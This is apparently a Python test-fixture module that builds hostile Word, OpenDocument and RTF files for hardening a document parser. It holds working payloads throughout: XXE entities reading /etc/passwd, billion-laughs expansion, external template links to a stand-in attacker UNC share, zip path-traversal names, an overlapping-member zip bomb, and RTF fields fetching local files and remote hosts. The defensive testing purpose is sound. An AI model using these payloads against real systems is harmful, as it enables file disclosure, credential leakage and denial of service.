"""Hostile office files: XML that points outside, grows without end, or nests without bottom."""

import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.word_files import HEAD, NAMESPACES, RELATION, p, r, sdt, tbl, tc, tr, write_docx

OUTSIDE = "file:///etc/passwd"
XXE = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{OUTSIDE}"><!ENTITY % y SYSTEM "{OUTSIDE}"> %y;]>'
LAUGHS = "<!DOCTYPE a [<!ENTITY l0 'ha'>{}]>".format(
    "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 12))
)
_FODT = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
_ODT = "application/vnd.oasis.opendocument.text"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_FLAT = "http://schemas.microsoft.com/office/2006/xmlPackage"
_NEST = 10_000


def _body(content: str, prolog: str = "") -> str:
    return f"{HEAD}{prolog}<w:document {NAMESPACES}><w:body>{content}</w:body></w:document>"


def _part(tag: str, content: str, prolog: str) -> str:
    return f"{HEAD}{prolog}<w:{tag} {NAMESPACES}>{content}</w:{tag}>"


def _everywhere(path: Path, prolog: str, entity: str) -> Path:
    """A document whose every part declares and uses the entity."""
    inside = f"<w:p><w:r><w:t>{entity}</w:t></w:r></w:p>"
    relations = f'{HEAD}{prolog}<Relationships xmlns="{_RELATIONS}"><a>{entity}</a></Relationships>'
    tags = {"styles": "styles", "numbering": "numbering", "comments": "comments"}
    tags |= {"header1": "hdr", "footer1": "ftr", "footnotes": "footnotes", "settings": "settings"}
    with zipfile.ZipFile(write_docx(path, p(r("Bonjour"))), "a") as package:
        package.writestr("docProps/core.xml", f"{HEAD}{prolog}<a>{entity}</a>")
        package.writestr("customXml/item1.xml", f"{HEAD}{prolog}<a>{entity}</a>")
        for name, tag in tags.items():
            package.writestr(f"word/{name}.xml", _part(tag, inside, prolog))
        package.writestr("word/media/image1.svg", f"{HEAD}{prolog}<svg><text>{entity}</text></svg>")
        package.writestr("word/_rels/header1.xml.rels", relations)
    return rewritten(path, {"word/document.xml": _body(inside, prolog)})


def parts_of(path: Path) -> dict[str, str]:
    """Read the parts of a package as text."""
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name).decode() for name in package.namelist()}


def rewritten(path: Path, other: dict[str, str]) -> Path:
    """Write a package again with some parts changed or added."""
    held = parts_of(path) | other
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as after:
        for name, data in held.items():
            after.writestr(name, data)
    return path


def external_entities(path: Path) -> Path:
    return _everywhere(path, XXE, "&x;")


def billion_laughs(path: Path) -> Path:
    return _everywhere(path, LAUGHS, "&l11;")


def entities_aside(path: Path) -> Path:
    """The main part is clean: entities are in its styles, headers, properties and drawings."""
    return rewritten(_everywhere(path, XXE, "&x;"), {"word/document.xml": _body(p(r("Bonjour")))})


def external_relations(path: Path) -> Path:
    kinds = (
        "attachedTemplate",
        "image",
        "subDocument",
        "aFChunk",
        "oleObject",
        "hyperlink",
        "frame",
    )
    targets = (
        r"\\attaquant.example.org\c$\x.dotm",
        "http://127.0.0.1:9/x",
        OUTSIDE,
        "../../../etc/passwd",
    )
    relations = "".join(
        f'<Relationship Id="h{n}_{m}" Type="{RELATION}{kind}" Target="{target}" '
        'TargetMode="External"/>'
        for n, kind in enumerate(kinds)
        for m, target in enumerate(targets)
    )
    pictures = "".join(
        f'<w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><a:graphic><a:graphicData><pic:pic>'
        f'<pic:blipFill><a:blip r:link="h1_{m}" r:embed="h1_{m}"/></pic:blipFill></pic:pic>'
        f"</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
        f'<w:subDoc r:id="h2_{m}"/><w:altChunk r:id="h3_{m}"/>'
        f'<w:object><o:OLEObject Type="Link" r:id="h4_{m}"/></w:object>'
        for m in range(len(targets))
    )
    links = f'{HEAD}<Relationships xmlns="{_RELATIONS}">{relations}</Relationships>'
    write_docx(path, p(r("Bonjour"), pictures))
    return rewritten(
        path, {"word/_rels/document.xml.rels": links, "word/_rels/settings.xml.rels": links}
    )


def many_paragraphs(path: Path) -> Path:
    return write_docx(path, p(r("Nom Prénom : ")) * 100_000)


def many_runs(path: Path) -> Path:
    return write_docx(path, p(r("x") * 1_000_000))


def one_endless_line(path: Path) -> Path:
    return write_docx(path, p(r("☐ Oui ☐ Non Nom Prénom : E-mail : ") * 20_000))


def nested_tables(path: Path) -> Path:
    return write_docx(path, "<w:tbl><w:tr><w:tc>" * _NEST + p() + "</w:tc></w:tr></w:tbl>" * _NEST)


def nested_tables_within_limits(path: Path) -> Path:
    body = p(r("Nom Prénom :"))
    for _ in range(60):  # 240 elements deep: XML parsers take 256 unasked
        body = tbl(tr(tc(body)))
    return write_docx(path, body)


def many_controls(path: Path) -> Path:
    return write_docx(path, "".join(p(sdt(r(f"valeur {n}"))) for n in range(10_000)))


def nested_controls(path: Path) -> Path:
    return write_docx(
        path, "<w:sdt><w:sdtContent>" * _NEST + p() + "</w:sdtContent></w:sdt>" * _NEST
    )


def nested_fields(path: Path) -> Path:
    begin = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>'
    )
    return write_docx(path, p(begin * 50_000))


def huge_attribute(path: Path) -> Path:
    return write_docx(path, f'<w:p w:rsidR="{"A" * 20_000_000}">{r("Bonjour")}</w:p>')


def wide_table(path: Path) -> Path:
    return write_docx(path, tbl(*(tr(*[tc("Nom")] * 300) for _ in range(300))))


def spanning_cells(path: Path) -> Path:
    facts = '<w:gridSpan w:val="2147483647"/><w:vMerge w:val="restart"/>'
    return write_docx(path, tbl(*(tr(tc("Nom", facts)) for _ in range(100))))


def many_parts(path: Path) -> Path:
    write_docx(path, p(r("Bonjour")))
    with zipfile.ZipFile(path, "a") as package:
        for number in range(65_000):
            package.writestr(f"word/x{number}.xml", b"")
    return path


def wrong_checksum(path: Path) -> Path:
    content = bytearray(write_docx(path, p(r("Bonjour"))).read_bytes())
    at = content.index(b"PK\1\2")
    while at >= 0:  # every entry of the directory
        content[at + 16 : at + 20] = b"\1\2\3\4"
        at = content.find(b"PK\1\2", at + 1)
    path.write_bytes(content)
    return path


def climbing_names(path: Path) -> Path:
    write_docx(path, p(r("Bonjour")))
    with zipfile.ZipFile(path, "a") as package:
        for name in (
            "/hostile",
            "../../hostile",
            "C:\\hostile",
            "word\\..\\..\\hostile",
            "a\0b",
        ):
            package.writestr(zipfile.ZipInfo(name), b"x")
    return path


def overlapping_members(path: Path) -> Path:
    """After D. Fifield, « A better zip bomb »: every name of the directory is the same bytes."""
    inner = path.with_name("kernel.zip")
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", bytes(19_000_000))
    content = inner.read_bytes()
    inner.unlink()
    start, end = content.index(b"PK\1\2"), content.index(b"PK\5\6")
    entry, count = content[start:end], 2_000
    name = b"word/document.xml"
    entries = b"".join(entry.replace(name, b"word/document%04d" % n) for n in range(count))
    tail = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(entries), start, 0)
    path.write_bytes(content[:start] + entries + tail)
    return path


def flat_word(path: Path) -> Path:
    path.write_text(
        f'{HEAD}{XXE}<?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="{_FLAT}">'
        f'<pkg:part pkg:name="/word/document.xml"><pkg:xmlData><w:document {NAMESPACES}><w:body>'
        f"{p(r('A'))}&x;</w:body></w:document></pkg:xmlData></pkg:part></pkg:package>",
        "utf-8",
    )
    return path


def flat_open_document(path: Path) -> Path:
    path.write_text(
        f'{HEAD}{XXE}<office:document {_FODT} office:mimetype="{_ODT}"><office:body><office:text>'
        "<text:p>&x;</text:p></office:text></office:body></office:document>",
        "utf-8",
    )
    return path


def open_document(path: Path) -> Path:
    content = (
        f"{HEAD}{XXE}<office:document-content {_FODT}><office:body><office:text>"
        "<text:p>&x;</text:p></office:text></office:body></office:document-content>"
    )
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("mimetype", _ODT)
        package.writestr("content.xml", content)
        package.writestr("styles.xml", content)
        package.writestr("meta.xml", content)
        package.writestr("META-INF/manifest.xml", f"{HEAD}{XXE}<a>&x;</a>")
    return path


def nested_groups(path: Path) -> Path:
    path.write_bytes(rb"{\rtf1\ansi " + b"{" * 100_000 + b"Nom" + b"}" * 100_000 + b"}")
    return path


def fields_of_rtf(path: Path) -> Path:
    path.write_bytes(
        rb"{\rtf1\ansi{\field{\*\fldinst INCLUDETEXT "
        b'"/etc/passwd"' + rb"}{\fldrslt x}}{\field{\*\fldinst INCLUDEPICTURE "
        b'"http://127.0.0.1:9/x.png"'
        + rb" \\d}{\fldrslt y}}{\*\template \\\\\\\\h.example.org\\\\x}}"
    )
    return path


FILES: dict[str, Callable[[Path], Path]] = {
    "external_entities.docx": external_entities,
    "entities_aside.docx": entities_aside,
    "billion_laughs.docx": billion_laughs,
    "external_relations.docx": external_relations,
    "many_paragraphs.docx": many_paragraphs,
    "many_runs.docx": many_runs,
    "one_endless_line.docx": one_endless_line,
    "nested_tables.docx": nested_tables,
    "nested_tables_within_limits.docx": nested_tables_within_limits,
    "many_controls.docx": many_controls,
    "nested_controls.docx": nested_controls,
    "nested_fields.docx": nested_fields,
    "huge_attribute.docx": huge_attribute,
    "wide_table.docx": wide_table,
    "spanning_cells.docx": spanning_cells,
    "many_parts.docx": many_parts,
    "wrong_checksum.docx": wrong_checksum,
    "climbing_names.docx": climbing_names,
    "overlapping_members.docx": overlapping_members,
    "flat_word.xml": flat_word,
    "flat_open_document.fodt": flat_open_document,
    "open_document.odt": open_document,
    "nested_groups.rtf": nested_groups,
    "fields_of_rtf.rtf": fields_of_rtf,
}
